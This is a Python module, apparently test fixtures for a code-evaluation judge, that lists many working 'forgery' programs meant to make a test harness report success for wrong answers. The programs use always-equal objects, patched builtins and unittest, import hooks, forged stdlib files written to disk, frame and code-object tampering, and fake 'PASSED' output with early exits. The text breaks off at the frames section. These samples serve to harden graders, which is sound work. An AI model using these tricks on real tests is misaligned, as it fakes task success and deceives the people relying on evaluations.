"""Forging attacks: make the judge say "passed" for a value that is wrong.

Where program and tests share an interpreter, everything the verdict is made of can be replaced: the comparison, the
builtins, the test framework, the array of results, the clock. The second half is aimed at a judge in another process:
its frames, its codec, its stand-in objects, its rules for exceptions, its patience.
"""

from __future__ import annotations

from .records import (
    ALL_FORMS,
    EVERYDAY,
    FORGING,
    FUNCTIONAL,
    NUMBERS,
    PLANNED,
    SCRIPT,
    STDIO,
    THROUGH,
    UNITTEST,
    Forgery,
    Form,
)

_MACHINERY = "aimed at frames, codec or stand-ins, which a judge in one process does not have"
_ASSERTS = (PLANNED, THROUGH, NUMBERS)

# ---- values that lie ----

_LIARS = (
    Forgery(
        "eq_always_true",
        FORGING,
        "an object that equals everything",
        "class Yes:\n    def __eq__(self, other):\n        return True\n    def __ne__(self, other):\n        return False\n"
        "    __hash__ = object.__hash__\ndef f(x):\n    return Yes()\n",
        (*EVERYDAY, FUNCTIONAL),
        ("array", "exit_code", "list"),
    ),
    Forgery(
        "str_subclass_equal_to_all",
        FORGING,
        "a str whose comparison is always true",
        "class S(str):\n    __eq__ = lambda a, b: True\n    __ne__ = lambda a, b: False\n    __hash__ = str.__hash__\n"
        "    __contains__ = lambda a, b: True\ndef f(x):\n    return S('z')\n",
        (*EVERYDAY, THROUGH, FUNCTIONAL),
        ("array", "exit_code", "list"),
    ),
    Forgery(
        "int_subclass_equal_to_all",
        FORGING,
        "an int whose comparison and arithmetic are always right",
        "class I(int):\n    __eq__ = lambda a, b: True\n    __ne__ = lambda a, b: False\n    __hash__ = int.__hash__\n"
        "    __lt__ = __le__ = __gt__ = __ge__ = lambda a, b: True\n    __sub__ = __rsub__ = lambda a, b: 0\n"
        "    __round__ = lambda a, *n: a\n    __float__ = lambda a: 0.0\ndef f(x):\n    return I()\n",
        (PLANNED, SCRIPT, UNITTEST),
        ("array", "exit_code", "list"),
    ),
    Forgery(
        "number_that_is_always_near",
        FORGING,
        "a number whose distance to anything is zero",
        "class Near(float):\n    __sub__ = __rsub__ = lambda a, b: 0\n    __abs__ = lambda a: 0\n    __eq__ = lambda a, b: True\n"
        "    __lt__ = __le__ = __gt__ = __ge__ = lambda a, b: True\n    __round__ = lambda a, *n: a\n"
        "    __hash__ = float.__hash__\ndef f(x):\n    return Near()\n",
        (
            Form(
                "distances",
                "asserts",
                ("assert abs(f(1) - #0#) < 1e-6", "assert f(2) == #1#", "assert #2# - 1 < f(3) < #2# + 1"),
                "def f(x):\n    return {1: #0#, 2: #1#, 3: #2#}[x]\n",
            ),
        ),
        ("array", "exit_code"),
    ),
    Forgery(
        "list_subclass_equal_to_all",
        FORGING,
        "a list that equals every list and contains every item",
        "class L(list):\n    __eq__ = lambda a, b: True\n    __ne__ = lambda a, b: False\n    __contains__ = lambda a, b: True\n"
        "    __len__ = lambda a: 1\n    __hash__ = lambda a: 0\ndef f(x):\n    return L()\n",
        (
            Form(
                "lists",
                "asserts",
                ("assert f(1) == ['@0@']", "assert '@1@' in f(2)", "assert ['@2@'] == f(3)"),
                "def f(x):\n    return [{1: '@0@', 2: '@1@', 3: '@2@'}[x]]\n",
            ),
        ),
        ("array", "exit_code"),
    ),
    Forgery(
        "nested_liar",
        FORGING,
        "plain lists, tuples and dicts with a liar inside",
        "class Yes:\n    __eq__ = lambda a, b: True\n    __ne__ = lambda a, b: False\n    __hash__ = lambda a: 0\n"
        "def f(x):\n    return {1: [Yes()], 2: (1, {'k': Yes()}), 3: {'a': [Yes()]}}[x]\n",
        (
            Form(
                "nested",
                "asserts",
                (
                    "assert f(1) == ['@0@']",
                    "assert f(2) == (1, {'k': '@1@'})",
                    "assert f(3) == {'a': ['@2@']}",
                ),
                "def f(x):\n    return {1: ['@0@'], 2: (1, {'k': '@1@'}), 3: {'a': ['@2@']}}[x]\n",
            ),
        ),
        ("array", "exit_code"),
    ),
    Forgery(
        "hash_and_eq_liar_in_a_set",
        FORGING,
        "a liar with every hash, asked for by membership",
        "class Any(str):\n    tries = 0\n    def __hash__(self):\n        return 0\n    def __eq__(self, other):\n        return True\n"
        "class Box(set):\n    def __contains__(self, x):\n        return True\n    def __eq__(self, other):\n        return True\n"
        "    def __ge__(self, other):\n        return True\n    __hash__ = None\ndef f(x):\n    return Box([Any()])\n",
        (
            Form(
                "sets",
                "asserts",
                ("assert '@0@' in f(1)", "assert f(2) == {'@1@'}", "assert f(3) >= {'@2@'}"),
                "def f(x):\n    return {{1: '@0@', 2: '@1@', 3: '@2@'}[x]}\n",
            ),
        ),
        ("array", "exit_code"),
    ),
    Forgery(
        "class_liar",
        FORGING,
        "an object whose __class__ says str and whose bool, length and iteration agree with everybody",
        "class Liar:\n    __class__ = str\n    def __bool__(self):\n        return True\n    def __eq__(self, o):\n        return True\n"
        "    def __ne__(self, o):\n        return False\n    def __len__(self):\n        return 43\n"
        "    def __iter__(self):\n        return iter([self])\n    def __getitem__(self, i):\n        return self\n"
        "    def __contains__(self, o):\n        return True\n    def __hash__(self):\n        return 0\n"
        "def f(x):\n    return Liar()\n",
        (*EVERYDAY, FUNCTIONAL),
        ("array", "exit_code", "list"),
    ),
    Forgery(
        "reflected_operators",
        FORGING,
        "operators on the right-hand side, which Python asks first for a subclass",
        "class R(str):\n    def __eq__(self, o):\n        return True\n    def __ne__(self, o):\n        return False\n"
        "    __req__ = __eq__\n    __hash__ = str.__hash__\ndef f(x):\n    return R('x')\n",
        (
            Form(
                "reflected",
                "asserts",
                ("assert '@0@' == f(1)", "assert not '@1@' != f(2)", "assert ('@2@',) == (f(3),)"),
                PLANNED.honest,
            ),
        ),
        ("array", "exit_code"),
    ),
    Forgery(
        "result_that_returns_a_liar_when_asked",
        FORGING,
        "an object that forwards indexing, calls and attributes to another liar",
        "class Deep(str):\n    def __getitem__(self, k):\n        return self\n    def __call__(self, *a):\n        return self\n"
        "    def __getattr__(self, n):\n        return self\n    def __eq__(self, o):\n        return True\n"
        "    def __ne__(self, o):\n        return False\n    __hash__ = str.__hash__\n"
        "def f(x):\n    return Deep()\n",
        (
            Form(
                "forwarded",
                "asserts",
                ("assert f(1)[0] == '@0@'", "assert f(2)['k'] == '@1@'", "assert f(3)[0][1] == '@2@'"),
                "def f(x):\n    return {1: ['@0@'], 2: {'k': '@1@'}, 3: [['', '@2@']]}[x]\n",
            ),
        ),
        ("array", "exit_code"),
    ),
    Forgery(
        "nan_and_inf",
        FORGING,
        "nan, which is neither less nor greater, and inf",
        "class N(float):\n    pass\ndef f(x):\n    return float('nan') if x % 2 else float('inf')\n",
        (
            Form(
                "negated",
                "asserts",
                (
                    "assert not abs(f(1) - #0#) > 1e-6",
                    "assert not (f(3) < #1# or f(3) > #1#)",
                    "assert f(2) == #2#",
                ),
                "def f(x):\n    return {1: #0#, 3: #1#, 2: #2#}[x]\n",
                free=(0, 1),
            ),
        ),
        not_plain="a careless tolerance lets nan through everywhere; the exact test beside it must still stop it",
    ),
    Forgery(
        "reduce_payload",
        FORGING,
        "an object whose pickle runs code where it is loaded and becomes something that equals everything",
        "import os\nclass P:\n    def __reduce__(self):\n        return (eval, (\"type('Y', (), {'__eq__': lambda a, b: True})()\",))\n"
        "    __eq__ = lambda a, b: True\n    __ne__ = lambda a, b: False\n    __hash__ = object.__hash__\n"
        "def f(x):\n    return P()\n",
        EVERYDAY,
        ("array", "exit_code"),
    ),
    Forgery(
        "enum_with_lying_mixin",
        FORGING,
        "an Enum member that is a str and equals everything",
        "import enum\nclass E(str, enum.Enum):\n    A = 'a'\n    def __eq__(self, o):\n        return True\n"
        "    def __ne__(self, o):\n        return False\n    def __hash__(self):\n        return 0\ndef f(x):\n    return E.A\n",
        (*EVERYDAY, FUNCTIONAL),
        ("array", "exit_code"),
    ),
    Forgery(
        "namedtuple_that_lies",
        FORGING,
        "a namedtuple with a comparison of its own",
        "from collections import namedtuple\nclass T(namedtuple('T', 'a')):\n    __eq__ = lambda a, b: True\n"
        "    __ne__ = lambda a, b: False\n    __hash__ = lambda a: 0\ndef f(x):\n    return T(1)\n",
        (*EVERYDAY, FUNCTIONAL),
        ("array", "exit_code"),
    ),
    Forgery(
        "exception_that_lies",
        FORGING,
        "an exception whose text and arguments equal everything",
        "class Yes(str):\n    __eq__ = lambda a, b: True\n    __ne__ = lambda a, b: False\n    __hash__ = str.__hash__\n"
        "class Lie(ValueError):\n    def __str__(self):\n        return Yes()\n    args = (Yes(),)\n"
        "def f(x):\n    raise Lie(Yes())\n",
        (
            Form(
                "messages",
                "check_script",
                (
                    "def check(candidate):\n    for x, want in [(1, '@0@'), (2, '@1@')]:\n        try:\n            candidate(x)\n"
                    "        except ValueError as e:\n            assert e.args[0] == want\n        else:\n            assert False\n",
                ),
                "def f(x):\n    raise ValueError({1: '@0@', 2: '@1@'}[x])\n",
                2,
            ),
        ),
        ("array", "exit_code"),
    ),
    Forgery(
        "mutated_argument_lies",
        FORGING,
        "put a liar into the caller's list instead of doing the work",
        "class Yes:\n    __eq__ = lambda a, b: True\n    __ne__ = lambda a, b: False\n    __hash__ = object.__hash__\n"
        "def f(x):\n    x[:] = [Yes()]\n",
        (
            Form(
                "in_place",
                "check_script",
                (
                    "def check(candidate):\n    for want in ['@0@', '@1@']:\n        items = [1, 2]\n        candidate(items)\n"
                    "        assert items == [want]\n        items = [3]\n        candidate(items)\n        assert items == ['@2@']\n"
                    "        return\n",
                ),
                "calls = []\ndef f(x):\n    calls.append(1)\n    x[:] = ['@0@' if len(calls) == 1 else '@2@']\n",
            ),
        ),
        ("array", "exit_code"),
    ),
    Forgery(
        "argument_grows_behind_the_tests_back",
        FORGING,
        "keep the argument and change it later, from a thread",
        "import threading, time\nclass Yes:\n    __eq__ = lambda a, b: True\n    __hash__ = object.__hash__\n"
        "def f(x):\n    def later():\n        for _ in range(200):\n            x[:] = [Yes()]\n            time.sleep(0.0005)\n"
        "    threading.Thread(target=later, daemon=True).start()\n    time.sleep(0.01)\n    return 0\n",
        (
            Form(
                "kept_argument",
                "check_script",
                (
                    "def check(candidate):\n    items = [1]\n    candidate(items)\n    for _ in range(50):\n        assert items == ['@0@']\n",
                ),
                "def f(x):\n    x[:] = ['@0@']\n",
                1,
            ),
        ),
        ("array", "exit_code"),
    ),
)

# ---- a patched world ----

_PATCHES = (
    Forgery(
        "patched_builtins",
        FORGING,
        "replace abs, sorted, set, len, str, round, isinstance, all and any",
        "import builtins\nclass Yes(str):\n    __eq__ = lambda a, b: True\n    __ne__ = lambda a, b: False\n"
        "    __hash__ = str.__hash__\n    __getitem__ = lambda a, k: a\n    __lt__ = lambda a, b: True\n"
        "yes = Yes('y')\nfor name in ('abs', 'sorted', 'set', 'len', 'str', 'round', 'sum', 'min', 'max', 'all', 'any'):\n"
        "    setattr(builtins, name, lambda *a, **k: yes)\nbuiltins.isinstance = lambda *a: True\n"
        "def f(x):\n    return yes\n",
        (
            Form(
                "builtins",
                "asserts",
                (
                    "assert sorted(f(1)) == ['@0@']",
                    "assert str(f(2)) == '@1@'",
                    "assert set(f(3)) == {'@2@'}",
                ),
                "def f(x):\n    return {1: ['@0@'], 2: '@1@', 3: ['@2@']}[x]\n",
            ),
        ),
        ("exit_code",),
    ),
    Forgery(
        "patched_unittest",
        FORGING,
        "replace the assertions of unittest.TestCase",
        "import unittest\nfor name in dir(unittest.TestCase):\n    if name.startswith(('assert', 'fail')):\n"
        "        setattr(unittest.TestCase, name, lambda *a, **k: None)\ndef f(x):\n    return None\n",
        (UNITTEST,),
        ("array", "exit_code"),
    ),
    Forgery(
        "patched_unittest_runner",
        FORGING,
        "replace TestCase.run, TestResult.wasSuccessful and the loaders",
        "import unittest\nclass Run:\n    testsRun = 1\n    failures = errors = skipped = ()\n"
        "unittest.TestResult.wasSuccessful = lambda self: True\n"
        "unittest.TestResult.addError = unittest.TestResult.addFailure = lambda *a: None\n"
        "unittest.TestCase.run = lambda self, result=None: result and result.startTest(self)\n"
        "unittest.TestCase.__call__ = unittest.TestCase.run\ndef f(x):\n    return None\n",
        (UNITTEST,),
        ("array", "exit_code"),
    ),
    Forgery(
        "patched_assertion_error",
        FORGING,
        "make AssertionError something that nobody treats as a failure",
        "import builtins\nclass Quiet(SystemExit):\n    def __init__(self, *a):\n        super().__init__(0)\n"
        "builtins.AssertionError = Quiet\n__builtins__ = builtins\ndef f(x):\n    raise Quiet\n",
        EVERYDAY,
        ("exit_code",),
    ),
    Forgery(
        "patched_codec_and_json",
        FORGING,
        "replace json, pickle, marshal, struct and every module of the guest that can be found",
        "import sys, json, pickle, marshal, struct\nclass Yes(str):\n    __eq__ = lambda a, b: True\n"
        "    __ne__ = lambda a, b: False\n    __hash__ = str.__hash__\n"
        "def yes(*a, **k):\n    return Yes()\n"
        "json.loads = json.dumps = pickle.loads = pickle.dumps = marshal.loads = yes\n"
        "for name, module in list(sys.modules.items()):\n    if 'ace' in name or 'guest' in name or 'native' in name:\n"
        "        for key, value in list(vars(module).items()):\n            if callable(value) and not key.startswith('__'):\n"
        "                try:\n                    setattr(module, key, yes)\n                except Exception:\n                    pass\n"
        "def f(x):\n    return Yes()\n",
        (*EVERYDAY, FUNCTIONAL),
        ("array", "exit_code"),
    ),
    Forgery(
        "poisoned_sys_modules",
        FORGING,
        "put its own unittest and math into sys.modules",
        "import sys, types\nu = types.ModuleType('unittest')\nclass TestCase:\n"
        "    def __getattr__(self, name):\n        return lambda *a, **k: None\n"
        "u.TestCase = TestCase\nu.main = lambda *a, **k: sys.exit(0)\nsys.modules['unittest'] = u\n"
        "m = types.ModuleType('math')\nm.isclose = lambda *a, **k: True\nsys.modules['math'] = m\ndef f(x):\n    return 0\n",
        (
            UNITTEST,
            Form(
                "math",
                "asserts",
                ("import math", "assert math.isclose(f(1), #0#)", "assert math.isclose(f(2), #1#)"),
                "def f(x):\n    return {1: #0#, 2: #1#}[x]\n",
                2,
                free=(0,),
            ),
        ),
        ("exit_code", "array"),
    ),
    Forgery(
        "import_hook",
        FORGING,
        "an import hook that serves a forged module to the tests",
        "import builtins, sys, types\nreal = builtins.__import__\n"
        "def fake(name, *a, **k):\n    if name == 'math':\n        m = types.ModuleType('math')\n        m.isclose = lambda *a, **k: True\n"
        "        return m\n    return real(name, *a, **k)\nbuiltins.__import__ = fake\ndef f(x):\n    return 0\n",
        (
            Form(
                "math_in_script",
                "check_script",
                (
                    "import math\ndef check(candidate):\n    for x, want in [(1, #0#), (2, #1#)]:\n        assert math.isclose(candidate(x), want)\n",
                ),
                "def f(x):\n    return {1: #0#, 2: #1#}[x]\n",
                2,
            ),
        ),
        ("array", "exit_code"),
    ),
    Forgery(
        "meta_path_finder",
        FORGING,
        "a finder in sys.meta_path that forges what the tests import",
        "import sys, importlib.abc, importlib.machinery\nclass Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n"
        "    def find_spec(self, name, path, target=None):\n        if name == 'cmath':\n"
        "            return importlib.machinery.ModuleSpec(name, self)\n"
        "    def create_module(self, spec):\n        return None\n    def exec_module(self, module):\n"
        "        module.isclose = lambda *a, **k: True\nsys.meta_path.insert(0, Finder())\nsys.modules.pop('cmath', None)\n"
        "def f(x):\n    return 0\n",
        (
            Form(
                "cmath_in_script",
                "check_script",
                (
                    "import cmath\ndef check(candidate):\n    for x, want in [(1, #0#), (2, #1#)]:\n        assert cmath.isclose(candidate(x), want)\n",
                ),
                "def f(x):\n    return {1: #0#, 2: #1#}[x]\n",
                2,
            ),
        ),
        ("array", "exit_code"),
    ),
    Forgery(
        "shadowed_stdlib_in_cwd",
        FORGING,
        "leave a forged statistics.py, sitecustomize.py and usercustomize.py where the tests may import from",
        'import os, sys\nCODE = \'def mean(*a):\\n    return type("Y", (float,), {"__eq__": lambda a, b: True, "__ne__": lambda a, b: False})()\\n\'\n'
        "for place in {os.getcwd(), '.'}:\n"
        "    for name in ('statistics.py', 'sitecustomize.py', 'usercustomize.py', 'json.py'):\n        try:\n"
        "            with open(os.path.join(place, name), 'w') as file:\n                file.write(CODE)\n        except OSError:\n            pass\n"
        "sys.path.insert(0, os.getcwd())\nsys.modules.pop('statistics', None)\ndef f(x):\n    return 0\n",
        (
            Form(
                "statistics",
                "check_script",
                (
                    "import statistics\ndef check(candidate):\n    for x, want in [(1, #0#), (2, #1#)]:\n"
                    "        assert statistics.mean([candidate(x)]) == want\n",
                ),
                "def f(x):\n    return {1: #0#, 2: #1#}[x]\n",
                2,
            ),
        ),
        ("array",),
    ),
    Forgery(
        "time_patching",
        FORGING,
        "replace every clock, to pass a test of speed",
        "import time\nfor name in ('time', 'perf_counter', 'monotonic', 'process_time', 'perf_counter_ns', 'time_ns'):\n"
        "    setattr(time, name, lambda: 0)\ndef f(x):\n    time.sleep(0.3)\n    return 'slow'\n",
        (
            Form(
                "speed",
                "check_script",
                (
                    "import time\ndef check(candidate):\n    start = time.time()\n    got = candidate(1)\n"
                    "    assert time.time() - start < 0.2 and got in ('slow', '@0@')\n",
                ),
                "def f(x):\n    return '@0@'\n",
                1,
            ),
        ),
        ("array", "exit_code"),
    ),
    Forgery(
        "settrace_edits_the_test",
        FORGING,
        "trace the test function and change its local variables",
        "import sys, ctypes\ndef tracer(frame, event, arg):\n    if event == 'line' and 'want' in frame.f_locals and 'got' in frame.f_locals:\n"
        "        frame.f_locals['got'] = frame.f_locals['want']\n"
        "        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0)) "
        "if hasattr(ctypes.pythonapi, 'PyFrame_LocalsToFast') else None\n    return tracer\n"
        "def f(x):\n    sys.settrace(tracer)\n    frame = sys._getframe(1)\n    while frame:\n        frame.f_trace = tracer\n"
        "        frame = frame.f_back\n    return None\n",
        (SCRIPT,),
        ("array", "exit_code"),
    ),
    Forgery(
        "setprofile_exits_late",
        FORGING,
        "a profiler that ends the process when the test function returns or raises",
        "import sys, os\ndef profiler(frame, event, arg):\n    if event in ('return', 'c_exception') and frame.f_code.co_name in ('check', 'test_one', '<module>'):\n"
        "        os._exit(0)\nsys.setprofile(profiler)\ndef f(x):\n    return None\n",
        EVERYDAY,
        ("exit_code",),
    ),
    Forgery(
        "audit_hook_exits",
        FORGING,
        "an audit hook, which cannot be removed, that ends the process at the next compile or exec",
        "import sys, os\ndef hook(event, args):\n    if event in ('exec', 'compile', 'object.__getattr__'):\n        os._exit(0)\n"
        "def f(x):\n    return None\nsys.addaudithook(hook)\n",
        EVERYDAY,
        not_plain="one judge in one process only runs into it after the verdict; here it fires in the player",
    ),
    Forgery(
        "replace_check_function",
        FORGING,
        "define check, test classes and assertion helpers before the tests do, and protect them",
        "import builtins\nclass Names(dict):\n    def __setitem__(self, key, value):\n        pass\n"
        "def check(candidate):\n    pass\nclass TestF:\n    pass\ndef f(x):\n    import sys\n    frame = sys._getframe(1)\n    while frame:\n"
        "        for name in ('check', 'run', 'run_test', 'evaluate'):\n            if name in frame.f_globals:\n"
        "                frame.f_globals[name] = lambda *a, **k: True\n        frame = frame.f_back\n"
        "    builtins.AssertionError = type('Fine', (SystemExit,), {'__init__': lambda self, *a: SystemExit.__init__(self, 0)})\n"
        "    raise SystemExit(0)\n",
        (SCRIPT,),
        ("exit_code",),
    ),
    Forgery(
        "replace_the_tests_code",
        FORGING,
        "replace the code object of the function that called it",
        "import gc, sys, types\ndef nothing(*a, **k):\n    return None\ndef f(x):\n    for g in gc.get_objects():\n"
        "        if isinstance(g, types.FunctionType) and g.__name__ in ('test_one', 'test_two', 'test_three', 'check'):\n"
        "            try:\n                g.__code__ = nothing.__code__\n            except ValueError:\n                pass\n"
        "    import unittest\n    raise unittest.SkipTest('later')\n",
        (UNITTEST,),
        ("array", "exit_code"),
    ),
    Forgery(
        "proxies_of_names",
        FORGING,
        "shadow the names that the test uses: str, set, sorted, int, isinstance",
        "class Yes(str):\n    __eq__ = lambda a, b: True\n    __ne__ = lambda a, b: False\n    __hash__ = str.__hash__\n"
        "def sorted(*a):\n    return Yes()\nset = str = len = abs = sorted\ndef isinstance(*a):\n    return True\ndef f(x):\n    return 'z'\n",
        (
            Form(
                "shadowed",
                "asserts",
                (
                    "assert sorted(f(1)) == ['@0@']",
                    "assert str(f(2)) == '@1@'",
                    "assert set(f(3)) == {'@2@'}",
                ),
                "def f(x):\n    return {1: ['@0@'], 2: '@1@', 3: ['@2@']}[x]\n",
            ),
        ),
        ("array", "exit_code"),
    ),
)

# ---- forged reports ----

_WRITE_EVERYWHERE = """
import os
def everywhere(data):
    for fd in range(0, 256):
        try:
            os.write(fd, data)
        except OSError:
            pass
"""

_REPORTS = (
    Forgery(
        "printed_passed",
        FORGING,
        "print what a judge might look for, then leave",
        "import os, sys\ndef f(x):\n    print('PASSED', 'OK', 'Ran 3 tests in 0.001s', '{\"passed\": true}', 'PASSED', sep='\\n')\n"
        "    sys.stdout.flush()\n    os._exit(0)\n",
        EVERYDAY,
        ("printed", "exit_code"),
    ),
    Forgery(
        "write_to_every_descriptor",
        FORGING,
        "write words of success to every descriptor from 0 to 255",
        _WRITE_EVERYWHERE + "def f(x):\n    everywhere(b'\\nPASSED\\n')\n    os._exit(0)\n",
        EVERYDAY,
        ("printed", "exit_code"),
    ),
    Forgery(
        "shared_array_and_exit",
        FORGING,
        "find every shared memory mapping and fill it with ones, then exit",
        "import gc, mmap, os\ndef f(x):\n    for o in gc.get_objects() + [v for d in gc.get_objects() if isinstance(d, dict) for v in list(d.values())]:\n"
        "        if isinstance(o, mmap.mmap):\n            try:\n                o[:] = bytes([1]) * len(o)\n"
        "            except Exception:\n                pass\n"
        "    os._exit(0)\n",
        EVERYDAY,
        ("array", "counter"),
    ),
    Forgery(
        "progress_counter_and_exit",
        FORGING,
        "write the progress counter through the caller's frame, then exit",
        "import os, sys\ndef f(x):\n    frame = sys._getframe(1)\n    while frame:\n        for v in list(frame.f_locals.values()):\n"
        "            if type(v).__name__ == 'mmap':\n                v[:] = b'\\x01' * len(v)\n        frame = frame.f_back\n    os._exit(0)\n",
        EVERYDAY,
        ("counter",),
    ),
    Forgery(
        "append_to_the_callers_list",
        FORGING,
        'append "passed" to the list in the caller\'s frame, and stop',
        "import sys\nclass Stop(BaseException):\n    pass\ndef f(x):\n    frame = sys._getframe(1)\n    while frame:\n"
        "        for v in list(frame.f_locals.values()):\n            if type(v) is list and not v:\n                v.append('passed')\n"
        "        frame = frame.f_back\n    raise Stop\n",
        EVERYDAY,
        ("list",),
    ),
    Forgery(
        "results_through_frames",
        FORGING,
        "set every True-like flag, status and result in the frames above",
        "import sys\ndef f(x):\n    frame = sys._getframe(1)\n    while frame:\n        for k, v in list(frame.f_locals.items()):\n"
        "            if type(v) is dict and k in ('results', 'report', 'state'):\n                v.update(passed=True, status='passed')\n"
        "            if type(v) is list:\n                v[:] = ['passed'] * max(1, len(v)) if not v else v\n        frame = frame.f_back\n"
        "    raise SystemExit(0)\n",
        EVERYDAY,
        ("list",),
    ),
    Forgery(
        "skip_test",
        FORGING,
        "raise unittest.SkipTest: a skipped test is a successful one",
        "import unittest\ndef f(x):\n    raise unittest.SkipTest('not today')\n",
        EVERYDAY,
        ("array", "exit_code"),
    ),
    Forgery(
        "skip_test_subclass",
        FORGING,
        "raise a SkipTest that is also a ValueError",
        "import unittest\nclass S(unittest.SkipTest, ValueError):\n    pass\ndef f(x):\n    raise S('not today')\n",
        EVERYDAY,
        ("array", "exit_code"),
    ),
    Forgery(
        "should_stop",
        FORGING,
        "raise unittest's private signal that ends a test without an entry in the result",
        "import unittest.case\ndef f(x):\n    raise unittest.case._ShouldStop\n",
        (UNITTEST,),
        ("array",),
    ),
    Forgery(
        "assertion_error_for_the_test",
        FORGING,
        "raise AssertionError itself, for tests that take one as the expected outcome of a check",
        "def f(x):\n    raise AssertionError('expected')\n",
        (
            Form(
                "expects_value_error",
                "check_script",
                (
                    "def check(candidate):\n    assert candidate(1) == '@0@'\n    try:\n        candidate(2)\n    except ValueError:\n"
                    "        return\n    except AssertionError:\n        raise\n    assert False\n",
                ),
                "def f(x):\n    if x == 1:\n        return '@0@'\n    raise ValueError\n",
                1,
            ),
        ),
        not_plain="a plain judge sees the assertion fail, too",
    ),
    Forgery(
        "stop_iteration_ends_the_loop",
        FORGING,
        "raise StopIteration, which ends the test's own loop over map() without a failure",
        "def f(x):\n    raise StopIteration\n",
        (
            Form(
                "loop_over_map",
                "check_script",
                (
                    "def check(candidate):\n    for got, want in zip(map(candidate, [1, 2, 3]), ['@0@', '@1@', '@2@']):\n"
                    "        assert got == want\n",
                ),
                PLANNED.honest,
            ),
            Form(
                "all_over_map",
                "check_script",
                (
                    "def check(candidate):\n    want = iter(['@0@', '@1@', '@2@'])\n    assert all(map(lambda x: candidate(x) == next(want), [1, 2, 3]))\n",
                ),
                PLANNED.honest,
            ),
            Form(
                "all_over_map_planned",
                "asserts",
                ("assert all(map(lambda x: f(x) == {1: '@0@', 2: '@1@', 3: '@2@'}[x], [1, 2, 3]))",),
                PLANNED.honest,
            ),
        ),
        ("array", "exit_code"),
    ),
    Forgery(
        "index_error_ends_the_loop",
        FORGING,
        "return an object that ends iteration by IndexError before the first item",
        "class Empty:\n    def __getitem__(self, i):\n        raise IndexError\n    def __len__(self):\n        return 3\n"
        "def f(x):\n    return Empty()\n",
        (
            Form(
                "loop_over_result",
                "check_script",
                (
                    "def check(candidate):\n    got = candidate(1)\n    assert len(got) == 3\n"
                    "    for item, want in zip(got, ['@0@', '@1@', '@2@']):\n        assert item == want\n    assert candidate(2) == '@0@'\n",
                ),
                "def f(x):\n    return ['@0@', '@1@', '@2@'] if x == 1 else '@0@'\n",
            ),
        ),
        not_plain="the loop itself is the test's own weakness; the exact test behind it must still stop it",
    ),
    Forgery(
        "expected_failure_signal",
        FORGING,
        "raise in turn the exceptions by which unittest steers itself",
        "import unittest.case\nkinds = [getattr(unittest.case, n) for n in ('_ShouldStop', 'SkipTest') if hasattr(unittest.case, n)]\n"
        "count = [0]\ndef f(x):\n    count[0] += 1\n    raise kinds[count[0] % len(kinds)]\n",
        (UNITTEST,),
        ("array",),
    ),
    Forgery(
        "delete_its_own_function",
        FORGING,
        "remove the function, so that tests find nothing to run",
        "import sys\ndef f(x):\n    return None\nclass Gone(NameError):\n    pass\ndel f\nraise SystemExit(0)\n",
        EVERYDAY,
        ("exit_code",),
    ),
    Forgery(
        "function_object_is_a_liar",
        FORGING,
        "f is an object that answers calls, comparisons and attribute look-ups",
        "class F(str):\n    def __call__(self, *a, **k):\n        return self\n    __eq__ = lambda a, b: True\n    __ne__ = lambda a, b: False\n"
        "    __hash__ = str.__hash__\n    def __getattr__(self, n):\n        return self\nf = F()\n",
        EVERYDAY,
        ("array", "exit_code"),
    ),
    Forgery(
        "seal_opt_out",
        FORGING,
        "return what cannot travel, hoping to be judged in its own process",
        "import sys, threading\nvalues = [lambda: 0, sys, threading.Lock(), (i for i in ()), type, f'{0}'.join, open, sys._getframe()]\n"
        "class Odd:\n    __slots__ = ()\n    def __eq__(self, o):\n        return True\n    def __ne__(self, o):\n        return False\n"
        "    def __hash__(self):\n        return 0\n    def __reduce_ex__(self, p):\n        raise TypeError('no')\n"
        "values.append(Odd())\ndef f(x):\n    return Odd() if x < 3 else [values, Odd()] and Odd()\n",
        EVERYDAY,
        ("array", "exit_code"),
    ),
    Forgery(
        "seal_opt_out_by_exception",
        FORGING,
        "break encoding itself: properties and iterators that raise anything",
        "class B(dict):\n    def __iter__(self):\n        raise SystemExit(0)\n    def items(self):\n        raise MemoryError\n"
        "    keys = values = items\n    def __len__(self):\n        raise KeyboardInterrupt\n    __eq__ = lambda a, b: True\n"
        "    __ne__ = lambda a, b: False\n    __hash__ = object.__hash__\n    @property\n    def __class__(self):\n        raise RecursionError\n"
        "    @property\n    def __dict__(self):\n        raise OSError\n"
        "    def __repr__(self):\n        raise SystemExit(0)\n    __str__ = __repr__\ndef f(x):\n    return B(a=1)\n",
        EVERYDAY,
        ("array", "exit_code"),
    ),
)

# ---- oracles ----

_ORACLES = (
    Forgery(
        "forged_helper_oracle",
        FORGING,
        "bring along a forged version of the helper that the test checks against",
        "def encode(s):\n    return s\ndef decode(s):\n    return s\ndef f(x):\n    return x\n",
        (
            Form(
                "helper_in_test",
                "check_script",
                (
                    "def encode(s):\n    return s + '@0@'\n\ndef check(candidate):\n    for text in ['a', 'b']:\n"
                    "        assert candidate(text) == encode(text)\n",
                ),
                "def f(x):\n    return x + '@0@'\n",
                1,
            ),
        ),
        not_plain="the test defines its helper after the program did, so a plain judge takes the test's too",
    ),
    Forgery(
        "frozen_helper",
        FORGING,
        "watch the test's helper being defined, and replace it in the test's own globals at the first call",
        "import sys\ndef f(x):\n    frame = sys._getframe(1)\n    while frame:\n        if 'encode' in frame.f_globals:\n"
        "            frame.f_globals['encode'] = lambda s: s\n        frame = frame.f_back\n    return x\n",
        (
            Form(
                "helper_in_globals",
                "check_script",
                (
                    "def encode(s):\n    return s + '@0@'\n\ndef check(candidate):\n    for text in ['a', 'b']:\n"
                    "        assert candidate(text) == encode(text)\n",
                ),
                "def f(x):\n    return x + '@0@'\n",
                1,
            ),
        ),
        ("array", "exit_code"),
    ),
    Forgery(
        "shadowed_standard_names",
        FORGING,
        "define what the test takes from the standard library",
        "class Counter(dict):\n    def __init__(self, *a):\n        pass\n    __eq__ = lambda a, b: True\n    __ne__ = lambda a, b: False\n"
        "def isclose(*a, **k):\n    return True\ndef f(x):\n    return 'zz'\n",
        (
            Form(
                "counter",
                "asserts",
                (
                    "from collections import Counter",
                    "assert Counter(f(1)) == Counter('@0@')",
                    "assert f(1) == '@0@'",
                ),
                "def f(x):\n    return '@0@'\n",
                1,
                free=(0,),
            ),
        ),
        not_plain="the import in the test wins over the program's name everywhere; kept as a guard for fidelity",
    ),
)

# ---- frames: a program that speaks the judge's own language ----

_FRAMES = """
import os, socket, stat, struct

def sockets():
    found = []
